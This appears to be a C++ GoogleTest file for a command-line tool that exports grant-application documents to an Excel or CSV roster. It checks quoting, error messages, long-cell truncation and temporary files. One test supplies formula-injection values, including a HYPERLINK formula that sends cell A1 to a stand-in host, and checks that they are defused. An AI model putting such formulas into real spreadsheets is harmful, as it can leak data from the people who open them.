// velmora-cli roster: the workbook and the CSV, their cells, and where the
// workbook is made.
#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <string>
#include <utility>
#include <vector>

#include "cli/cli_run.h"
#include "test_support.h"

using namespace velmora::test;

TEST(Cli, RosterListsEveryDocumentAsWorkbookAndCsv) {
  TempDir dir;
  layOut(dir, {{"sample.xdx", "in/a.xdx"}, {"formal.xdx", "in/b.xdx"}, {"wrong-version.xdx", "in/late/c.xdx"}});
  // Identifiers with leading zeros, a name with a comma and quotes, an amount
  // with decimals and one that is no number.
  writeFile(dir.path("in/late/d.xdx"),
            document("<ver>VL2011v1.0</ver><SN>007</SN><ProjectName>“双减”, 课后\"服务\"</ProjectName>"
                     "<ContactMobile>01062345678</ContactMobile><ApplyOutlay>12.5</ApplyOutlay>"
                     "<OutlayAccounts>约十万</OutlayAccounts><ExpectCompleteDate>201406</ExpectCompleteDate>"));
  const std::string a = dir.path("in/a.xdx"), b = dir.path("in/b.xdx"), c = dir.path("in/late/c.xdx"),
                    d = dir.path("in/late/d.xdx");

  const CliRun checked = cli({"check", d});
  const std::string problemsOfD = std::to_string(std::count(checked.out.begin(), checked.out.end(), '\n'));

  CliRun x = cli({"roster", dir.path("in"), "--out", dir.path("r.xlsx")});
  EXPECT_EQ(x.exit, 2);  // as check: one document was refused
  EXPECT_EQ(x.err, c + "：您选择的文档不是用本申报系统生成的\n");
  EXPECT_EQ(x.out, "");
  SheetContent sheet = readWorkbook(dir.path("r.xlsx"));
  EXPECT_EQ(sheet.frozen, "1 A2 frozen");
  EXPECT_EQ(sheet.filter, "A1:S5");
  auto s = [](std::string v) { return SheetCell{"s", std::move(v)}; };
  auto n = [](std::string v) { return SheetCell{"n", std::move(v)}; };
  const std::vector<std::pair<std::string, SheetCell>> expected = {
      {"A1", s("file")},
      {"B1", s("status")},
      {"C1", s("problems")},
      {"D1", s("formal")},
      {"E1", s("SN")},
      {"F1", s("ProjectName")},
      {"N1", s("ApplyOutlay")},
      {"R1", s("ContactMobile")},
      {"S1", s("messages")},
      // Rows in name order: a, b, then the subfolder's c and d.
      {"A2", s(a)},
      {"B2", s("complete")},
      {"C2", n("0")},
      {"D2", {"b", "0"}},
      {"E2", s("BJA110012")},
      {"F2", s("区域推进中小学学习共同体建设的实践研究")},
      {"G2", s("王晓燕")},
      {"H2", s("北京师范大学教育学部")},
      {"I2", s("A.北京市")},
      {"J2", s("A.教育部直属高等院校")},
      {"K2", s("B.国家一般课题")},
      {"L2", s("H.基础教育")},
      {"M2", s("B.应用研究")},
      {"N2", n("12")},
      {"O2", n("120000")},
      {"P2", s("201312")},
      {"Q2", s("wangxy@example.cn")},
      {"R2", s("13800000000")},
      {"A3", s(b)},
      {"D3", {"b", "1"}},
      {"E3", s("BJA110099")},
      {"A4", s(c)},
      {"B4", s("refused")},
      {"S4", s("您选择的文档不是用本申报系统生成的")},
      {"A5", s(d)},
      {"B5", s("problems")},
      {"C5", n(problemsOfD)},
      {"D5", {"b", "0"}},
      {"E5", s("007")},
      {"F5", s("“双减”, 课后\"服务\"")},
      {"N5", n("12.5")},
      {"O5", s("约十万")},
      {"P5", s("201406")},
      {"R5", s("01062345678")},
  };
  for (const auto& [ref, cell] : expected) {
    SCOPED_TRACE(ref);
    ASSERT_TRUE(sheet.cells.count(ref)) << ref;
    EXPECT_EQ(sheet.cells[ref], cell) << ref << ": " << sheet.cells[ref].type << " " << sheet.cells[ref].value;
  }
  // A refused document has nothing but its file, status and message; empty
  // fields are no cells at all.
  for (const char* empty : {"C4", "D4", "E4", "F4", "R4", "S2", "G5", "Q5"}) {
    SCOPED_TRACE(empty);
    EXPECT_FALSE(sheet.cells.count(empty)) << empty;
  }

  CliRun csv = cli({"roster", a, c, d, "--out", dir.path("r.csv")});
  EXPECT_EQ(csv.exit, 2);
  const std::string fields =
      ",SN,ProjectName,Presider,Department,BelongCity,BelongSystem,ProjectClass,SubjectClass,"
      "ResearchClass,ApplyOutlay,OutlayAccounts,ExpectCompleteDate,ContactMail,ContactMobile,";
  EXPECT_EQ(
      readFile(dir.path("r.csv")),
      "\xEF\xBB\xBF"
      "file,status,problems,formal" +
          fields + "messages\r\n" + a +
          ",complete,0,FALSE,BJA110012,区域推进中小学学习共同体建设的实践研究,王晓燕,北京师范大学教育学部,A.北京市,"
          "A.教育部直属高等院校,B.国家一般课题,H.基础教育,B.应用研究,12,120000,201312,wangxy@example.cn,13800000000,"
          "\r\n" +
          c + ",refused,,,,,,,,,,,,,,,,,您选择的文档不是用本申报系统生成的\r\n" + d + ",problems," + problemsOfD +
          ",FALSE,007,\"“双减”, 课后\"\"服务\"\"\",,,,,,,,12.5,约十万,201406,,01062345678,\r\n");

  // Only .xlsx and .csv; a table that cannot be written leaves nothing behind.
  CliRun other = cli({"roster", a, "--out", dir.path("r.ods")});
  EXPECT_EQ(other.exit, 2);
  EXPECT_EQ(other.err, dir.path("r.ods") + "：名册只能写成 .xlsx 或 .csv 文件\n");
  for (const char* name : {"no/such/r.xlsx", "no/such/r.csv"}) {
    SCOPED_TRACE(name);
    CliRun failed = cli({"roster", a, "--out", dir.path(name)}, "LC_ALL=C");
    EXPECT_EQ(failed.exit, 2) << name;
    EXPECT_EQ(failed.err, dir.path(name) + "：无法写入文件“" + dir.path(name) + "”：No such file or directory\n");
  }
  EXPECT_FALSE(std::filesystem::exists(dir.path("no")));
  CliRun complete = cli({"roster", a, b, "--out", dir.path("ok.xlsx")});
  EXPECT_EQ(complete.exit, 0) << complete.err;
  EXPECT_EQ(readWorkbook(dir.path("ok.xlsx")).filter, "A1:S3");
}

// Cells a spreadsheet would run as formulas are written as the text they
// are: a leading apostrophe in the CSV, string cells in the workbook. An
// amount that is a number, negative too, stays a number.
TEST(Cli, RosterCellsAreNeverFormulas) {
  TempDir dir;
  writeFile(dir.path("h.xdx"), document("<ver>VL2011v1.0</ver><SN>-2+3</SN>"
                                        "<ProjectName>=HYPERLINK(\"http://x.example/?\"&amp;A1,\"点\")</ProjectName>"
                                        "<Presider>@SUM(1+1)</Presider><Department>\t=1+1</Department>"
                                        "<ContactMobile>+8613800000000</ContactMobile><ApplyOutlay>-5</ApplyOutlay>"
                                        "<OutlayAccounts>-1+1</OutlayAccounts>"));
  CliRun csv = cli({"roster", dir.path("h.xdx"), "--out", dir.path("r.csv")});
  EXPECT_EQ(csv.exit, 1) << csv.err;
  const std::string table = readFile(dir.path("r.csv"));
  const std::string row = table.substr(table.find("\r\n") + 2);
  EXPECT_TRUE(row.starts_with(dir.path("h.xdx") + ",problems,")) << row;
  for (const std::string& cell :
       {std::string(",'-2+3,"),
        std::string(",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点\"\")\",'@SUM(1+1),'\t=1+1,"),
        std::string(",-5,'-1+1,"), std::string(",'+8613800000000,")}) {
    SCOPED_TRACE(rowName(cell));
    EXPECT_NE(row.find(cell), std::string::npos) << cell << " in " << row;
  }

  CliRun xlsx = cli({"roster", dir.path("h.xdx"), "--out", dir.path("r.xlsx")});
  EXPECT_EQ(xlsx.exit, 1) << xlsx.err;
  SheetContent sheet = readWorkbook(dir.path("r.xlsx"));
  for (const char* ref : {"E2", "F2", "G2", "H2", "N2", "O2", "R2"}) {
    SCOPED_TRACE(ref);
    ASSERT_TRUE(sheet.cells.count(ref)) << ref;
    EXPECT_EQ(sheet.cells[ref].type, "s") << ref << " " << sheet.cells[ref].value;  // never a formula
  }
  EXPECT_EQ(sheet.cells["F2"].value, "=HYPERLINK(\"http://x.example/?\"&A1,\"点\")");
}

// A workbook cell holds at most 32 767 characters; libxlsxwriter left a longer
// one empty without a word. Its beginning is written and the cell named; the
// CSV keeps the whole text.
TEST(Cli, AWorkbookCellTooLongIsCutAndNamed) {
  TempDir dir;
  const std::string title(40000, 'T');
  writeFile(dir.path("long.xdx"), document("<ver>VL2011v1.0</ver><ProjectName>" + title + "</ProjectName>"));
  CliRun x = cli({"roster", dir.path("long.xdx"), "--out", dir.path("r.xlsx")});
  EXPECT_EQ(x.exit, 1) << x.err;  // the document's problems, no refusal
  EXPECT_EQ(x.err, dir.path("r.xlsx") +
                       "：单元格 F2（ProjectName）超过 32767 个字符，只写入了前 32767 个；CSV 名册保留全文\n");
  SheetContent sheet = readWorkbook(dir.path("r.xlsx"));
  EXPECT_EQ(sheet.cells["F2"].value, std::string(32767, 'T'));
  CliRun csv = cli({"roster", dir.path("long.xdx"), "--out", dir.path("r.csv")});
  EXPECT_EQ(csv.err, "");
  EXPECT_NE(readFile(dir.path("r.csv")).find("," + title + ","), std::string::npos);
}

// The workbook's temporary lies beside the output, named and cleaned as a
// save's: a killed run left a megabyte in /tmp for good. TMPDIR plays no part.
TEST(Cli, TheWorkbooksTemporaryLiesBesideIt) {
  TempDir dir;
  layOut(dir, {{"sample.xdx", "a.xdx"}});
  std::filesystem::create_directories(dir.path("out"));
  CliRun r =
      cli({"roster", dir.path("a.xdx"), "--out", dir.path("out/r.xlsx")}, "TMPDIR=" + dir.path("no-such-folder"));
  EXPECT_EQ(r.exit, 0) << r.err;
  EXPECT_EQ(readWorkbook(dir.path("out/r.xlsx")).cells["F2"].value, "区域推进中小学学习共同体建设的实践研究");
  for (const auto& e : std::filesystem::directory_iterator(dir.path("out")))
    EXPECT_EQ(e.path().filename(), "r.xlsx");  // nothing left beside it
}
